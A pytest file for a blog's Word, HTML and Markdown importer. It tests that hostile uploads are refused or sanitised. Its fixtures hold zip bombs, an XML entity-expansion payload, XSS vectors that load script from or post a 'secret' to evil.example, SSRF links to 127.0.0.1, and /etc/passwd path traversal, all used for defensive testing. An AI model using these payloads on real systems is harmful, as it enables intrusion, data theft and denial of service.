"""Documents that mean harm, or that nobody could read: refused in words, and never with a stop of the site."""

import io
import socket
import time
import zipfile

import pytest

from blog.importing import limits
from blog.importing.reading import read_file, read_pasted
from blog.importing.refusals import DocumentRefused
from tests.blog.importing.building import (
    HEAD,
    NAMESPACES,
    cell,
    docx,
    drawing,
    pack,
    paragraph,
    picture,
    table,
)
from tests.factories import picture_bytes

BODY = "word/document.xml"


def with_body(xml: str, **parts) -> bytes:
    return docx("", extra={BODY: xml}, **parts)


def locked() -> bytes:
    """An archive whose members say that they need a password."""
    data = bytearray(docx(paragraph("x")))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = -1
        while (start := data.find(mark, start + 1)) >= 0:
            data[start + place] |= 1
    return bytes(data)


def lying() -> bytes:
    """An archive that says its text is ten bytes long."""
    data = bytearray(docx(paragraph("x" * 5000)))
    start = data.find(b"PK\x01\x02")
    while data[start + 46 : start + 46 + len(BODY)] != BODY.encode():
        start = data.find(b"PK\x01\x02", start + 1)
    data[start + 24 : start + 28] = (10).to_bytes(4, "little")
    return bytes(data)


def many_paragraphs() -> str:
    return "".join(f'<w:p w:rsidR="{number * 7919:x}"/>' for number in range(510_000))


def squeezed() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_BZIP2) as archive:
        archive.writestr(BODY, "x")
    return buffer.getvalue()


BILLION = f'{HEAD}<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><w:document {NAMESPACES}>&b;</w:document>'
UTF16 = BILLION.replace("UTF-8", "UTF-16").encode("utf-16")
DEEP = f"{HEAD}<w:document {NAMESPACES}>{'<w:sdt><w:sdtContent>' * 20_000}"
DEEP += f"{'</w:sdtContent></w:sdt>' * 20_000}</w:document>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600

REFUSED = {
    "bomb in one member": ("a.docx", lambda: docx("", extra={"word/media/x.png": bytes(30_000_000)}), "unpack"),
    "bomb in many": ("a.docx", lambda: docx("", extra={f"word/{n}.xml": "" for n in range(2100)}), "unpack"),
    "bomb in sum": (
        "a.zip",
        lambda: pack({f"{n}.bin": (b"%05d" % n + bytes(100)) * 9_500 for n in range(160)}),
        "unpack",
    ),
    "strange packing": ("a.docx", squeezed, "unpack"),
    "archive in an archive": ("a.zip", lambda: pack({"inner.docx": docx(paragraph("x"))}), "no document"),
    "password": ("a.docx", locked, "password"),
    "password of Word": ("a.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "password"),
    "lies about its size": ("a.docx", lying, "damaged"),
    "cut off": ("a.docx", lambda: docx(paragraph("x"))[:-200], "damaged"),
    "only a beginning": ("a.docx", lambda: b"PK\x03\x04", "damaged"),
    "entities": ("a.docx", lambda: with_body(BILLION), "instructions"),
    "entities in a style sheet": ("a.docx", lambda: docx("", extra={"word/styles.xml": BILLION}), "instructions"),
    "entities in another encoding": ("a.docx", lambda: docx("", extra={BODY: UTF16}), "damaged"),
    "nested": ("a.docx", lambda: with_body(DEEP), "damaged"),
    "no markup": ("a.docx", lambda: with_body("words"), "damaged"),
    "half a table": ("a.docx", lambda: with_body(f"{HEAD}<w:document {NAMESPACES}><w:body><w:tbl>"), "damaged"),
    "more elements than a book": (
        "a.docx",
        lambda: with_body(f"{HEAD}<w:document {NAMESPACES}><w:body>{many_paragraphs()}</w:body></w:document>"),
        "more parts",
    ),
    "span of a million": (
        "a.docx",
        lambda: docx(table(*[[cell("x", span=30) for _n in range(40)] for _m in range(60)])),
        "too large",
    ),
    "no number": (
        "a.docx",
        lambda: docx('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="x"/></w:tcPr></w:tc></w:tr></w:tbl>'),
        "damaged",
    ),
    "macros": ("a.docm", lambda: docx(paragraph("x"), extra={"word/vbaProject.bin": b"x"}), "macros"),
    "old Word": ("a.doc", lambda: OLE, "old Word"),
    "RTF": ("a.rtf", lambda: b"{\\rtf1\\ansi x}", "RTF"),
    "PDF": ("a.pdf", lambda: b"%PDF-1.7\n", "PDF"),
    "LibreOffice": ("a.odt", lambda: pack({"mimetype": "application/vnd.oasis.opendocument.text"}), "LibreOffice"),
    "Pages": ("a.pages", lambda: pack({"Index/Document.iwa": b"x"}), "Pages"),
    "web archive": ("a.mht", lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related\n\nx", "web archive"),
    "nothing": ("a.docx", lambda: b"", "empty"),
    "no words": ("a.docx", lambda: docx(paragraph("")), "no words"),
    "a picture": ("a.html", lambda: picture(1, 2, 3), "letters"),
    "too large a file": ("a.md", lambda: b"x" * (limits.MAX_FILE_BYTES + 1), "larger than 25 MB"),
    "too long a text": ("a.md", lambda: b"x " * 600_000, "longer"),
    "a hundred thousand tags in each other": ("a.html", lambda: b"<div>" * 100_000, "nested"),
    "a hundred thousand bold tags": ("a.html", lambda: b"<b>" * 100_000, "nested"),
    "a quarter of a million tags": ("a.html", lambda: b"<i></i>" * 250_000, "more parts"),
    "two pages in one": ("a.zip", lambda: pack({"a.html": "<p>x", "b.html": "<p>x"}), "no document"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_hostile_and_unreadable_documents_are_refused_in_words(case):
    name, build, words = REFUSED[case]
    data = build()
    start = time.process_time()

    with pytest.raises(DocumentRefused) as refusal:
        read_file(name, data)

    assert words in " ".join(refusal.value.messages)
    assert time.process_time() - start < 10


HARMFUL = """
<p onmouseover="steal()">Words <a href="javascript:steal()">link</a></p>
<script>steal()</script><SCRIPT SRC=//evil.example></SCRIPT><img src=x onerror="steal()">
<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name=a value="secret"></form>
<object data="x"></object><svg><script>steal()</script></svg><style>@import "https://evil.example/";</style>
<p style="display:none">hidden orders</p><math><mtext><script>steal()</script></mtext></math>
<img src="data:text/html;base64,PHNjcmlwdD4="><img src="data:image/svg+xml;base64,PHN2Zz4="><base href="//e.example/">
"""


def test_scripts_frames_and_false_pictures_are_left_out_and_told():
    document = read_pasted(f"<p>Before</p>{HARMFUL}<p>After</p>")

    told = " ".join(document.findings.sentences())

    assert [block["value"] for block in document.blocks] == ["<p>Before</p><p>Words link</p><p>After</p>"]
    assert document.pictures == []
    assert "scripts were left out" in told
    assert "frames, players or forms were left out" in told
    assert "2 pictures are damaged" in told or "3 pictures are damaged" in told


def refuse_network(*arguments, **keywords):
    raise AssertionError("a document was followed into the network")


def test_nothing_is_ever_fetched(monkeypatch):
    monkeypatch.setattr(socket.socket, "connect", refuse_network)
    monkeypatch.setattr(socket, "getaddrinfo", refuse_network)
    linked = drawing("rId9", "A picture elsewhere").replace("r:embed", "r:link")
    data = docx(
        paragraph("Words") + paragraph(linked),
        relations={
            "rId8": ("attachedTemplate", "https://evil.example/template.dotm", True),
            "rId9": ("image", "http://127.0.0.1:8000/secret.png", True),
        },
    )

    documents = [
        read_file("a.docx", data),
        read_pasted('<p>Words</p><img src="http://127.0.0.1/secret.png"><link rel=stylesheet href="//evil.example">'),
    ]

    for document in documents:
        assert document.pictures == []
        assert "not fetched" in " ".join(document.findings.sentences())


def test_paths_in_an_archive_lead_nowhere_else():
    page = '<p>Words</p><img src="../../etc/passwd"><img src="/etc/passwd"><img src="file:///etc/passwd">'

    document = read_file("a.zip", pack({"a.html": page, "../../etc/passwd": picture(1, 2, 3)}))

    assert len(document.pictures) <= 1
    assert [block["value"] for block in document.blocks if block["type"] == "text"] == ["<p>Words</p>"]


def test_picture_of_too_many_pixels_is_left_out_and_told(settings):
    settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS = 10_000
    large = drawing("rId1", "Large")
    data = docx(
        paragraph("Words", large),
        relations={"rId1": ("image", "media/image1.png", False)},
        media={"image1.png": picture_bytes(200, 200)},
    )

    document = read_file("a.docx", data)

    assert document.pictures == []
    assert "too large or too many" in " ".join(document.findings.sentences())


def test_pictures_beyond_the_limit_are_left_out_and_told():
    body = "".join(paragraph(drawing("rId1", "")) for _number in range(limits.MAX_PICTURES + 3))
    data = docx(body, relations={"rId1": ("image", "media/i.png", False)}, media={"i.png": picture(9, 9, 9)})

    document = read_file("a.docx", data)

    assert len(document.pictures) == limits.MAX_PICTURES
    assert "3 pictures are too large or too many" in " ".join(document.findings.sentences())


READERS = [
    lambda text: read_file("a.html", text.encode()),
    lambda text: read_file("a.md", text.encode()),
]
LINES = [
    "<a ",
    '<a x="',
    "<!--",
    "</a ",
    "<p>",
    "<td>",
    "<li>",
    "[",
    "**",
    "> ",
    "`",
    "[^1]",
    "|a|\n|-|\n",
    "&amp;",
    "<![if ",
]
LINES += ["\n- x"]


@pytest.mark.parametrize("line", LINES)
def test_no_text_takes_long(line):
    start = time.process_time()

    for read in READERS:
        try:
            read(line * (60_000 // len(line)))
        except DocumentRefused:
            continue

    assert time.process_time() - start < 20


def test_words_of_more_than_ten_books_are_refused_before_they_fill_the_memory():
    data = b"<p>" + b"word " * (limits.MAX_WORD_CHARACTERS // 5 + 1)

    with pytest.raises(DocumentRefused, match="longer than a page can hold"):
        read_file("books.html", data)
